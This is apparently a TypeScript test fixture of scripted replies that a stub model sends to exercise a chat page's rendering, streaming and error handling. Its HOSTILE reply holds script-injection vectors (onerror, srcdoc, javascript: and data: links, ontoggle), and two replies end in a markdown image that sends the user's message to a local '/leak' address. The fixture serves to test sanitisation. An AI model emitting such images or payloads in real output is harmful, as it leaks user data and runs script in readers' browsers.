// What the stub's model says to which message: texts that show one behaviour of the page each.

export interface Script {
  reasoning?: string;
  text: string;
  /** Milliseconds per piece of text. */
  pace?: number;
  /** Characters per piece. */
  piece?: number;
  promptTokens?: number;
  fail?: { code: string; message: string; needed?: number; available?: number };
  loadingMs?: number;
}

export const RICH = `Here is a small example in Python:

\`\`\`python
def fib(n: int) -> int:
    """The n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

print([fib(i) for i in range(10)])  # 0, 1, 1, 2, …
\`\`\`

It grows like $\\varphi^n / \\sqrt{5}$ with $\\varphi = \\frac{1 + \\sqrt 5}{2}$, and Binet's formula is exact:

\\[
F_n = \\frac{\\varphi^n - (-\\varphi)^{-n}}{\\sqrt{5}}
\\]

A coffee costs $5 and a cake $10, which is **not** a formula.

| n | F(n) | Ratio |
|--:|-----:|------:|
| 5 | 5 | 1.667 |
| 10 | 55 | 1.618 |
| 20 | 6,765 | 1.618034 |

1. Start with two numbers.
2. Add them, and keep the last two.
   - This takes *constant* memory.

> A series that rabbits made famous.

See [the encyclopaedia](https://example.org/fibonacci) for more. ![chart](http://127.0.0.1:18777/leak?q=my+first+message)`;

export const STORY =
  'The old lamp in the hall had not been lit for years. One evening, when the snow came early, Mara filled it with oil, ' +
  'trimmed the wick and struck a match.\n\nThe flame was small at first. Then it grew, steady and golden, and the shadows ' +
  'that had lived in the corners all winter drew back a little, as if to make room for her.\n\nShe pulled her chair closer. ' +
  'Outside the wind went looking for a way in, and did not find one.';

export const HOSTILE = `Hi <img src=x onerror="window.__pwn=1"> <iframe srcdoc="<script>parent.__pwn=2</script>"></iframe>
[click](javascript:window.__pwn=3) <a href="data:text/html,<script>window.__pwn=4</script>">d</a>
<details open ontoggle="window.__pwn=5"><summary>s</summary></details>

![chart](http://127.0.0.1:18777/leak?q=my+first+message)`;

const THOUGHT =
  'The user asks for something simple. I should keep it short.\n\nFirst, what is wanted? A clear answer with one example. ' +
  'I could mention the golden ratio, but only if it helps.\n\nLet me check the numbers: 0, 1, 1, 2, 3, 5, 8, 13, 21, 34. ' +
  'The ratio 34/21 is about 1.619. Good.\n\nI will write the code first, then the formula, then a small table.';

const SCRIPTS: [RegExp, Script][] = [
  [/rich/i, { reasoning: THOUGHT, text: RICH, promptTokens: 40 }],
  [/think/i, { reasoning: THOUGHT.repeat(3), text: STORY, pace: 30 }],
  [/read/i, { text: STORY, promptTokens: 1200 }],
  [/hostile/i, { text: HOSTILE }],
  [/fence/i, { text: '```js\n' + 'const line = 1;\n'.repeat(3000), piece: 200 }],
  [/long line/i, { text: 'a'.repeat(50_000), piece: 500 }],
  [/endless/i, { text: `${STORY}\n\n`.repeat(40), pace: 15 }],
  [/memory/i, { text: '', fail: { code: 'out_of_ram', message: 'KV needs 3.2 GiB', needed: 3.2e9, available: 1.0e9 } }],
  [/loading/i, { text: STORY, loadingMs: 1500 }],
];

export function scriptFor(message: string): Script {
  return SCRIPTS.find(([pattern]) => pattern.test(message))?.[1] ?? { text: STORY };
}
